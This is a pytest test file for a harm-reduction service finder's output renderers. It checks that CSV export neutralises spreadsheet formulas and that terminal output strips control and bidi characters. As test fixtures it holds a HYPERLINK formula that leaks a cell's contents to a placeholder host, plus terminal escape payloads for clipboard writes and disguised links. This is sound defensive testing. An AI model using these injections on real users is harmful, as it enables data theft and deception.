"""Machine renderers: JSON, JSON Lines, plain and CSV."""

import csv
import io
import json

import pytest

from hrfind.errors import UsageError
from hrfind.model import Address, Hours, Service, Strategy
from hrfind.output import Item, as_dict, choose_mode, clean, csv_text, json_array, json_lines, plain

VAN = Service(id="van", name="Van\tone", summary="Line one\nline two \x1b[2J", offers=["naloxone"],
              address=Address(city="Baltimore", postal_code="21201"),
              hours=[Hours(days=["mon"], opens="09:00", closes="17:00")])
TIP = Strategy(id="tip", title="Tip", summary="S", emergency=True)


def test_clean_removes_control_characters_and_bidi_overrides():
    assert clean("a\x1b[31mb\x07c\u202ed\x9b") == "a[31mbcd"
    assert clean("a\tb\nc", newlines=False) == "a b c"


def test_json_array_and_lines_carry_kind_and_extras():
    items = [Item(VAN, {"score": 50.0}), Item(TIP)]
    array = json.loads(json_array(items))
    assert array[0]["kind"] == "service" and array[0]["score"] == 50.0 and array[0]["lat"] is None
    assert array[1]["emergency"] is True
    assert [json.loads(line) for line in json_lines(items).splitlines()] == array
    assert json_array([]) == "[]\n" and json_lines([]) == ""


def test_plain_is_one_clean_line_per_record():
    line = plain([Item(VAN, {"score": 50.0})])
    assert line == "service\tvan\tVan one\t50.0\tLine one line two [2J\n"


def test_csv_has_a_column_per_field_and_keeps_tables_as_json():
    rows = list(csv.DictReader(io.StringIO(csv_text([Item(VAN), Item(TIP)]))))
    assert rows[0]["address.city"] == "Baltimore" and rows[1]["address.city"] == ""
    assert json.loads(rows[0]["hours"]) == [{"days": ["mon"], "opens": "09:00", "closes": "17:00"}]
    assert rows[0]["offers"] == "naloxone" and rows[1]["emergency"] == "true"
    assert rows[0]["summary"] == VAN.summary  # CSV quotes, never loses, the data


def test_as_dict_orders_kind_first():
    assert list(as_dict(Item(TIP)))[:2] == ["kind", "id"]


def test_choose_mode():
    assert choose_mode(False, False, False, stdout_isatty=True) == "human"
    assert choose_mode(False, False, False, stdout_isatty=False) == "plain"
    assert choose_mode(True, False, False, stdout_isatty=True) == "json"
    assert choose_mode(False, False, False, stdout_isatty=True, geojson=True) == "geojson"
    with pytest.raises(UsageError, match="--json and --jsonl"):
        choose_mode(True, True, False, stdout_isatty=True)


# --- spreadsheets and terminals (issue 14, items 4 and 12) ----------------------------------------

from hypothesis import given  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

from hrfind.output import csv_cell, csv_uncell  # noqa: E402

TRIGGERS = "=+-@\t\r"
CELLS = st.text(alphabet=st.sampled_from(list(TRIGGERS) + ["'", "a", "1", " ", "(", "\n", "é"]), max_size=12) | st.text(max_size=12)


@given(CELLS)
def test_no_csv_cell_starts_a_formula_and_the_importer_gets_it_back(text):
    cell = csv_cell(text)
    assert not cell.startswith(tuple(TRIGGERS))
    assert csv_uncell(cell) == text
    if not text.startswith(tuple(TRIGGERS)) and not text.lstrip("'").startswith(tuple(TRIGGERS)):
        assert cell == text  # everything else is written as it is


def test_csv_export_quotes_formulas_but_not_numbers():
    evil = Service(id="evil", name='=HYPERLINK("http://x.example/?"&A1,"click")', summary="@SUM(1+1)", phone="+1 410 555 0142",
                   lat=39.2, lon=-76.6)
    (row,) = csv.DictReader(io.StringIO(csv_text([Item(evil)])))
    assert row["name"] == "'" + evil.name and row["summary"] == "'@SUM(1+1)" and row["phone"] == "'+1 410 555 0142"
    assert row["lon"] == "-76.6"  # a number, not text: a spreadsheet reads it as a number


ESCAPES = ["\x1b]52;c;cHduZWQ=\x07", "\x1b]8;;http://evil.example\x1b\\", "\x1b[2J", "\x9b31m", "\u202e", "\u200b", "\u2028", "\ufeff"]


@given(st.lists(st.sampled_from(ESCAPES) | st.text(max_size=5), max_size=8).map("".join))
def test_clean_leaves_nothing_a_terminal_acts_on_or_hides(text):
    cleaned = clean(text)
    assert not any(c in cleaned for c in "\x1b\x07\x9b\u202e\u200b\u2028\ufeff\u200f\u2066")
    assert not any(0x80 <= ord(c) <= 0x9f or (ord(c) < 0x20 and c != "\n") for c in cleaned)


def test_csv_keeps_the_data_for_files_and_cleans_it_for_a_terminal():
    van = Service(id="van", name="Van \x1b]52;c;cHduZWQ=\x07 \u202eevil")
    assert "\x1b]52" in csv_text([Item(van)])
    shown = csv_text([Item(van)], terminal=True)
    assert "\x1b" not in shown and "\x07" not in shown and "\u202e" not in shown and "Van" in shown
